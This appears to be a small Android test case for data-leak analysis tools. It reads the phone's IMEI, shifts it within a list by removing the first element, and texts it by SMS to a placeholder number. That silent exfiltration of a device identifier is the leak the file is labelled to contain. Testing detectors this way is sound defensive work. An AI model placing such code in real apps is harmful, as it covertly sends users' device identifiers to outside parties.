// about       Removing the first element moves the value to the place that is sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    List<String> lines = new ArrayList<String>();
    lines.add("head");
    lines.add("body");
    lines.add(phone.getDeviceId());
    lines.add("foot");
    lines.remove(0);
    // "head" is gone, so the value is number 1 now.
    SmsManager.getDefault().sendTextMessage("+15550100", null, lines.get(1), null, null);
  }
}
